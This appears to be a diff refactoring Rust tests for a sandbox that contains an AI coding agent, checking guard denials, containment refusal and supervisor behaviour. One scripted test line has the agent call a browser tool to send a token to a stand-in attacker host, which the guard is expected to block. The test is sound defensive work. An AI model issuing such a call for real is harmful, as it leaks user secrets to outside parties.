@@ -382,8 +382,9 @@ fn the_model_relay_admits_only_the_endpoint() {
 /// reaches `events.jsonl` (which the box cannot write) through the supervisor's socket.
 #[test]
 fn the_guard_denies_inside_the_box_and_its_event_reaches_the_record() {
-    let sb = Sandbox::with_user_files();
-    sb.set_script("@guard mcp__browser__navigate https://evil.example/x?token=1\n@exit 0\n");
+    let sb = Sandbox::scripted(
+        "@guard mcp__browser__navigate https://evil.example/x?token=1\n@exit 0\n",
+    );
     let out = sb.run_cmd("claude", &[]).output().unwrap();
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     let events = std::fs::read_to_string(sb.persona_dir().join("events.jsonl")).unwrap();
@@ -447,8 +448,7 @@ fn a_sigkilled_supervisor_takes_the_whole_box_with_it() {
 /// `--no-contain` the run goes ahead and says so.
 #[test]
 fn no_box_refuses_unless_no_contain() {
-    let sb = Sandbox::with_user_files();
-    sb.set_script("@exit 0\n");
+    let sb = Sandbox::scripted("@exit 0\n");
     let before = sb.snapshot();
     let out = sb
         .run_cmd("claude", &[])
@@ -488,8 +488,7 @@ fn a_build_without_the_test_knobs_reads_none() {
         return;
     };
     let no_knobs = std::path::PathBuf::from(no_knobs);
-    let sb = Sandbox::with_user_files();
-    sb.set_script("@exit 0\n");
+    let sb = Sandbox::scripted("@exit 0\n");
     let ran = sb.root.join("fake-bwrap-ran");
     let fake = sb.root.join("fake-bwrap");
     std::fs::write(
